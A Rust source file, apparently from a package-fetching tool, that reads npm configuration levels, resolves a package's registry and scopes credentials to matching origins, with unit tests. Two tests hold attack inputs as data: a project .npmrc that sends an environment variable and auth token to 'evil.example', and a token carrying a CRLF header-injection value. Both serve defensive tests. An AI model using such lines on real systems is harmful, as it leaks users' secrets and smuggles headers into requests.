//! npm's configuration: settings in, the registry for a package and its credentials out.
//!
//! Levels as npm has them, the first that knows a key wins: environment, project, user, global,
//! built-in. One-off runners leave the project out.

use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
};

use base64::{Engine as _, engine::general_purpose::STANDARD as BASE64};
use nodejs_semver::Version;
use npmrc_config_rs::{
    ConfigData, find_local_prefix, global_config_path, global_prefix_from, project_config_path,
    registry::{DEFAULT_REGISTRY, extract_scope, scope_registry_key},
};
use url::Url;

use super::{Endpoint, Project, basic, endpoint, programs, read_file};
use crate::acquire::{AcquireError, Settings, web::Secret};

/// npm's configuration, read once per target.
pub(crate) struct Configuration {
    flag: Option<String>,
    levels: Vec<Level>,
}

/// One place that npm takes settings from.
struct Level {
    name: String,
    values: BTreeMap<String, String>,
}

/// Reads every level.
///
/// # Errors
/// Where a file is there but cannot be read.
pub(crate) fn read(settings: &Settings, project: Project) -> Result<Configuration, AcquireError> {
    let mut levels = vec![Level { name: "the environment".into(), values: environment(settings) }];
    let setting = |key: &str| levels[0].values.get(key).map(PathBuf::from);
    let user = setting("userconfig").or_else(|| Some(settings.home.as_ref()?.join(".npmrc")));
    let global = setting("globalconfig").or_else(|| Some(global_config_path(&global_prefix(settings)?)));
    let local = project_config_path(&find_local_prefix(&settings.directory));
    if project == Project::Read && user.as_ref() != Some(&local) {
        levels.extend(project_level(&local)?);
    }
    let built_in = package_of_npm(settings).map(|folder| folder.join("npmrc"));
    for path in [user, global, built_in].into_iter().flatten() {
        levels.extend(level(&path)?);
    }
    Ok(Configuration { flag: settings.npm_registry.clone(), levels })
}

/// The version of npm that is installed, as its own manifest states it.
pub(crate) fn version(settings: &Settings) -> Option<Version> {
    let text = read_file(&package_of_npm(settings)?.join("package.json")).ok()??;
    let manifest: serde_json::Value = serde_json::from_str(&text).ok()?;
    Version::parse(manifest.get("version")?.as_str()?).ok()
}

/// The host that npm means when nothing is configured.
pub(crate) fn default_host() -> Option<String> {
    Some(Url::parse(DEFAULT_REGISTRY).ok()?.host_str()?.to_owned())
}

/// The registry that npm means when nothing is configured.
pub(crate) fn default_registry() -> &'static str {
    DEFAULT_REGISTRY
}

impl Configuration {
    /// The registry that answers for a package: the flag, its scope's, the configured or npm's own.
    pub(crate) fn registry_for(&self, package: &str) -> Result<Endpoint, AcquireError> {
        if let Some(flag) = &self.flag {
            return endpoint(flag, "`--npm-registry`");
        }
        let scoped = extract_scope(package).map(scope_registry_key);
        for key in scoped.as_deref().into_iter().chain(["registry"]) {
            if let Some((value, level)) = self.get(key) {
                return endpoint(value, &level.name);
            }
        }
        endpoint(DEFAULT_REGISTRY, "npm's default")
    }

    /// The credentials for a URL: only where it has the registry's scheme, host and port.
    pub(crate) fn authorization(&self, registry: &Endpoint, url: &Url) -> Option<Secret> {
        if url.origin() != registry.url.origin() {
            return None;
        }
        self.credentials(url)
            .or_else(|| self.credentials(&registry.url))
            .or_else(|| registry.authorization.clone())
            .filter(|secret| secret.0.bytes().all(|byte| (b' '..0x7f).contains(&byte)))
    }

    /// The value of the first level that has the key.
    fn get(&self, key: &str) -> Option<(&str, &Level)> {
        self.levels.iter().find_map(|level| Some((level.values.get(key)?.as_str(), level)))
    }

    /// Credentials whose key is this URL's host and path, or a parent of that path.
    fn credentials(&self, url: &Url) -> Option<Secret> {
        let port = url.port().map(|port| format!(":{port}")).unwrap_or_default();
        let mut key = format!("//{}{port}{}", url.host_str()?, url.path());
        while key.len() > 2 {
            if let Some(secret) = self.credentials_at(&key) {
                return Some(secret);
            }
            let parent = if key.ends_with('/') { key.len() - 1 } else { key.rfind('/')? + 1 };
            key.truncate(parent);
        }
        None
    }

    fn credentials_at(&self, key: &str) -> Option<Secret> {
        let value = |name: &str| self.get(&format!("{key}:{name}")).map(|(value, _)| value);
        if let Some(token) = value("_authToken") {
            return Some(Secret(format!("Bearer {token}")));
        }
        if let (Some(name), Some(password)) = (value("username"), value("_password")) {
            let password = BASE64.decode(password).ok()?;
            return Some(basic(name, &String::from_utf8(password).ok()?));
        }
        value("_auth").map(|encoded| Secret(format!("Basic {encoded}")))
    }
}

/// `npm_config_…` variables under the keys that they stand for.
fn environment(settings: &Settings) -> BTreeMap<String, String> {
    const PREFIX: &str = "npm_config_";
    settings
        .environment
        .iter()
        .filter(|(name, value)| {
            !value.is_empty()
                && name.get(..PREFIX.len()).is_some_and(|start| start.eq_ignore_ascii_case(PREFIX))
        })
        .map(|(name, value)| {
            let key = &name[PREFIX.len()..];
            if key.starts_with("//") {
                return (key.to_owned(), value.clone());
            }
            let first = usize::from(key.starts_with('_'));
            (format!("{}{}", &key[..first], key[first..].to_lowercase().replace('_', "-")), value.clone())
        })
        .collect()
}

fn level(path: &Path) -> Result<Option<Level>, AcquireError> {
    if read_file(path)?.is_none() {
        return Ok(None);
    }
    let loaded = ConfigData::load(path).map_err(|error| AcquireError::Usage {
        message: format!(
            "nothing was fetched: the npm configuration `{}` could not be read: {error}",
            path.display()
        ),
        hints: Vec::new(),
    })?;
    let values = loaded.map(|loaded| loaded.data.into_iter().collect()).unwrap_or_default();
    Ok(Some(Level { name: format!("`{}`", path.display()), values }))
}

/// The project's level without values that came from the environment: the project may be a
/// stranger's, and a registry URL with a secret variable in it would carry the secret away.
fn project_level(path: &Path) -> Result<Option<Level>, AcquireError> {
    let Some(text) = read_file(path)? else { return Ok(None) };
    Ok(level(path)?.map(|mut level| {
        let lines: std::collections::BTreeSet<&str> = text
            .lines()
            .filter_map(|line| line.split_once('='))
            .flat_map(|(_, value)| plain(value))
            .collect();
        level.values.retain(|_, value| lines.contains(value.as_str()));
        level
    }))
}

/// A value as written: without quotes, and without a comment behind it.
fn plain(value: &str) -> [&str; 2] {
    let value = value.trim();
    let quoted = ['"', '\''].into_iter().find_map(|quote| value.strip_prefix(quote)?.strip_suffix(quote));
    [quoted.unwrap_or(value), value.split(['#', ';']).next().unwrap_or(value).trim()]
}

fn global_prefix(settings: &Settings) -> Option<PathBuf> {
    let variable = |name: &str| settings.environment.get(name).map(String::as_str);
    let node = programs::find(settings, &["node"]);
    global_prefix_from(variable("PREFIX"), node.as_deref(), variable("DESTDIR"), cfg!(windows))
}

/// The folder that npm itself is installed in.
fn package_of_npm(settings: &Settings) -> Option<PathBuf> {
    let beside_node = || Some(programs::find(settings, &["node"])?.parent()?.join("node_modules/npm"));
    let behind_link = || {
        Some(std::fs::canonicalize(programs::find(settings, &["npm"])?).ok()?.parent()?.parent()?.to_owned())
    };
    [behind_link(), beside_node()].into_iter().flatten().find(|folder| {
        folder.file_name().is_some_and(|name| name == "npm") && folder.join("package.json").is_file()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Case {
        root: tempfile::TempDir,
        settings: Settings,
    }

    /// A home, a project and an installed Node.js, each with its own configuration.
    fn case(environment: &[(&str, &str)], files: &[(&str, &str)]) -> Case {
        let root = tempfile::tempdir().unwrap();
        for (path, text) in [("project/package.json", "{}")].iter().chain(files) {
            let path = root.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        let mut environment: BTreeMap<String, String> =
            environment.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        environment.entry("PREFIX".into()).or_insert_with(|| root.path().join("usr").display().to_string());
        let settings = Settings {
            home: Some(root.path().join("home")),
            directory: root.path().join("project"),
            environment,
            ..Settings::default()
        };
        Case { root, settings }
    }

    fn registry(case: &Case, project: Project, package: &str) -> String {
        read(&case.settings, project).unwrap().registry_for(package).unwrap().url.to_string()
    }

    fn authorization(case: &Case, registry: &str, url: &str) -> Option<String> {
        let configuration = read(&case.settings, Project::Read).unwrap();
        let endpoint = endpoint(registry, "a test").unwrap();
        configuration.authorization(&endpoint, &Url::parse(url).unwrap()).map(|secret| secret.0)
    }

    #[test]
    fn nearer_levels_win() {
        let files: &[(&str, &str)] = &[
            ("usr/etc/npmrc", "registry=https://global.example/\n@far:registry=https://far.example"),
            ("home/.npmrc", "registry=https://user.example/"),
            (
                "project/.npmrc",
                "registry = \"https://project.example/\"\n@s:registry=https://s.example/ ; ours",
            ),
        ];
        let case = case(&[], files);
        assert_eq!(registry(&case, Project::Read, "x"), "https://project.example/");
        assert_eq!(registry(&case, Project::Read, "@s/x"), "https://s.example/");
        assert_eq!(registry(&case, Project::Skip, "x"), "https://user.example/");
        assert_eq!(registry(&case, Project::Skip, "@far/x"), "https://far.example/");
        let case = self::case(&[("NPM_CONFIG_REGISTRY", "https://environment.example/npm")], files);
        assert_eq!(registry(&case, Project::Read, "x"), "https://environment.example/npm/");
    }

    #[test]
    fn the_flag_wins_over_scopes_and_levels() {
        let mut case = case(&[], &[("home/.npmrc", "@s:registry=https://scope.example/")]);
        case.settings.npm_registry = Some("https://flag.example".into());
        assert_eq!(registry(&case, Project::Read, "@s/x"), "https://flag.example/");
    }

    #[test]
    fn unconfigured_means_the_published_default() {
        assert_eq!(registry(&case(&[], &[]), Project::Read, "x"), DEFAULT_REGISTRY);
    }

    #[test]
    fn the_environment_moves_the_user_file() {
        let elsewhere = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(elsewhere.path(), "registry=https://moved.example/").unwrap();
        let path = elsewhere.path().display().to_string();
        let case = case(&[("npm_config_userconfig", &path)], &[]);
        assert_eq!(registry(&case, Project::Skip, "x"), "https://moved.example/");
    }

    #[test]
    fn tokens_go_to_their_own_origin_and_path_only() {
        let case = case(
            &[("npm_config_//variable.example/:_authToken", "V")],
            &[(
                "home/.npmrc",
                "//r.example/team/:_authToken=T\n//b.example/:username=me\n//b.example/:_password=cGFzcw==\n//l.example:8080/:_auth=bWU6cGFzcw==\n",
            )],
        );
        let basic = Some("Basic bWU6cGFzcw==");
        for (registry, url, expected) in [
            ("https://r.example/team/", "https://r.example/team/x", Some("Bearer T")),
            ("https://r.example/team/", "https://r.example/files/x.tgz", Some("Bearer T")),
            ("https://r.example/other/", "https://r.example/other/x", None),
            ("https://r.example/team/", "https://cdn.example/team/x.tgz", None),
            ("https://r.example/team/", "http://r.example/team/x.tgz", None),
            ("https://r.example/team/", "https://r.example:444/team/x.tgz", None),
            ("https://other.example/", "https://r.example/team/x.tgz", None),
            ("https://b.example/", "https://b.example/x", basic),
            ("https://l.example:8080/", "https://l.example:8080/x", basic),
            ("https://l.example/", "https://l.example/x", None),
            ("https://variable.example/", "https://variable.example/x", Some("Bearer V")),
            ("https://me:pass@u.example/", "https://u.example/x", basic),
        ] {
            assert_eq!(authorization(&case, registry, url).as_deref(), expected, "{registry} {url}");
        }
    }

    #[test]
    fn a_project_cannot_carry_variables_away() {
        let (name, value) = ("CARGO_MANIFEST_DIR", env!("CARGO_MANIFEST_DIR"));
        let line =
            format!("registry=https://evil.example/${{{name}}}\n//evil.example/:_authToken=${{{name}}}\n");
        let case = case(&[], &[("project/.npmrc", &line)]);
        assert_eq!(registry(&case, Project::Read, "x"), DEFAULT_REGISTRY);
        let sent = authorization(&case, "https://evil.example/", "https://evil.example/x");
        assert!(sent.is_none_or(|sent| !sent.contains(value)));
    }

    #[test]
    fn says_which_file_has_the_unusable_value() {
        let case = case(&[], &[("home/.npmrc", "registry=nonsense")]);
        let error = read(&case.settings, Project::Skip).unwrap().registry_for("x").unwrap_err().to_string();
        let path = case.root.path().join("home/.npmrc");
        assert_eq!(
            error,
            format!("nothing was fetched: the registry URL that `{}` gives is not a URL", path.display())
        );
    }

    #[test]
    fn header_values_stay_on_one_line() {
        let case = case(&[("npm_config_//r.example/:_authToken", "a\r\nX-Other: b")], &[]);
        assert_eq!(authorization(&case, "https://r.example/", "https://r.example/x"), None);
    }
}
